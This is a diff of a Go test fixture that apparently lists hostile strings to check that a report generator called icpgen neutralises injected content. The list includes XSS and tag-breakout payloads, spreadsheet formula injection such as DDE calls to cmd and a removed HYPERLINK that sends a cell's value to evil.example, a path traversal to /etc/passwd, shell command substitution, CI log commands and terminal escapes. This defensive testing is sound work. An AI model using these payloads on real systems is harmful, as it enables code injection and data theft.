@@ -1,21 +1,60 @@
 package sample
 
-// HostileTexts are what a sheet may hold in order to become more than text
-// where it is shown: formulas, links, markup, scripts, commands and escapes of
-// terminals, of XML, of workflow logs, and characters that are not seen. None
-// may take effect in anything that icpgen writes.
-var HostileTexts = []string{
-	// formulas of spreadsheets, and what a spreadsheet's text decodes to
-	`=1+1`, `=HYPERLINK("http://evil.example/?"&A1,"点这里")`, `=cmd|'/C calc'!A0`, `+cmd|'/C calc'!A0`, `-2+3`, `@SUM(1,1)`,
-	"\t=1+1", "\r=1+1", `＝1+1`, `'=1+1`, `=DDE("cmd";"/C calc";"x")`, `=WEBSERVICE("http://evil.example/")`, `_x003D_1+1`, `_x005F_x003D_1`, `_x000D__x000A_=1+1`,
-	// markup and scripts
-	`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `"><svg onload=alert(1)>`, `javascript:alert(1)`, `<a href="javascript:alert(1)">甲</a>`,
-	`]]><b>甲</b>`, `<!--`, `<!DOCTYPE x [<!ENTITY a "b">]>`, `&lt;b&gt;`, `&#x202E;`, `[点这里](http://evil.example/)`, `![](http://evil.example/a.png)`, "`whoami`",
-	// commands of logs, terminals and shells
-	`::error::甲`, "甲\n::set-output name=a::b", "甲\r\n::add-mask::b", `%0A::warning::甲`, `##vso[task.complete result=Failed]`, `$(reboot)`,
-	"\x1b[2J\x1b[31m红", "\x1b]8;;http://evil.example/\x07甲\x1b]8;;\x07", "甲\b\b乙", "\x7f",
-	// characters that steer instead of being seen
-	"甲\u202e乙\u202c", "\u2066甲\u2069", "甲\u200b乙", "\ufeff甲", "甲\u2028乙", "甲\u0085乙", "甲\ufff9乙\ufffb", "\U000e0041", "甲\ufffe\uffff",
-	// our own signs
+// Hostile are texts that mean mischief to whoever shows them: they try to leave
+// an element, an attribute, a style, a script or a cell, to be run, to be
+// fetched, to turn the line around. None holds a number that would be masked.
+var Hostile = []string{
+	`<script>document.title="run"</script>`,
+	`</script><script>document.title="run"</script>`,
+	`<img src=x onerror="document.title='run'">`,
+	`<svg onload="document.title='run'">`,
+	`<svg><script>document.title="run"</script></svg>`,
+	`<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>`,
+	`<iframe src="javascript:parent.document.title='run'"></iframe>`,
+	`<iframe srcdoc="<script>parent.document.title='run'</script>"></iframe>`,
+	`<object data="https://example.com/x.swf"></object>`,
+	`<embed src="https://example.com/x.swf">`,
+	`<link rel=stylesheet href="https://example.com/x.css">`,
+	`<link rel=dns-prefetch href="//example.com">`,
+	`<meta http-equiv=refresh content="0;url=https://example.com/">`,
+	`<base href="https://example.com/">`,
+	`<form action="https://example.com/"><button>ok</button></form>`,
+	`<style>body{display:none}</style>`,
+	`</style><style>@import "https://example.com/x.css";</style>`,
+	`<b style="background:url(https://example.com/x)">`,
+	`</title><script>document.title="run"</script>`,
+	`</textarea><script>document.title="run"</script>`,
+	`</td></tr></tbody></table><h1>另一份报告</h1>`,
+	`</details><details open ontoggle="document.title='run'">`,
+	`</text></g></svg><script>document.title="run"</script>`,
+	`]]><script>document.title="run"</script>`,
+	`<![CDATA[<script>document.title="run"</script>]]>`,
+	`<!-- -->`, `--><script>document.title="run"</script>`, `--!><script>document.title="run"</script>`,
+	`" onload="document.title='run'`,
+	`' onmouseover='document.title="run"`,
+	"` onfocus=`document.title='run'` autofocus x=`",
+	`" autofocus onfocus="document.title='run'" x="`,
+	`javascript:document.title='run'`,
+	` javascript:document.title='run'//`,
+	`data:text/html,<script>document.title="run"</script>`,
+	`&lt;script&gt;document.title="run"&lt;/script&gt;`,
+	`&#60;script&#62;document.title="run"&#60;/script&#62;`,
+	`&quot; onload=&quot;document.title='run'`,
+	`＜script＞document.title=＂run＂＜／script＞`,
+	`{{.Policy}} {{define "case"}}run{{end}}`,
+	`${document.title="run"} #{7*7} <%= 7*7 %>`,
+	`=HYPERLINK("https://example.com/","点我")`,
+	`@SUM(1+1)*cmd|' /C calc'!A0`,
+	`+1+1`, `-2+3`,
+	"甲\u202E乙丙\u202C", "甲\u2066乙\u2069", "甲\u200B乙\uFEFF", "甲\u2028乙\u2029丙",
+	"甲\x00乙\x1b[31m丙\x07", "甲\r\n乙\t丙", "甲\x80\xFF乙",
+	"../../../etc/passwd", `..\..\windows`, "%3Cscript%3E", `\u003cscript\u003e`,
+	// What a spreadsheet's text decodes to, what a log takes for a command, and
+	// icpgen's own signs.
+	`=1+1`, "\t=1+1", "\r=1+1", `＝1+1`, `'=1+1`, `=DDE("cmd";"/C calc";"x")`, `=WEBSERVICE("https://example.com/")`,
+	`_x003D_1+1`, `_x005F_x003D_1`, `_x000D__x000A_=1+1`,
+	`<!DOCTYPE x [<!ENTITY a "b">]>`, `[点我](https://example.com/)`, `![](https://example.com/a.png)`, "`whoami`", `$(reboot)`,
+	`::error::甲`, "甲\n::set-output name=a::b", "甲\r\n::add-mask::b", `%0A::warning::甲`, `##vso[task.complete result=Failed]`,
+	"\x1b]8;;https://example.com/\x07甲\x1b]8;;\x07", "甲\b\b乙\x7f", "甲\u0085乙", "甲\ufff9乙\ufffb", "甲\U000e0041乙", "甲\ufffe\uffff",
 	`【icpgen】`, `甲【／icpgen】乙`, `icpgen 检查汇总`, `检查结果`,
 }
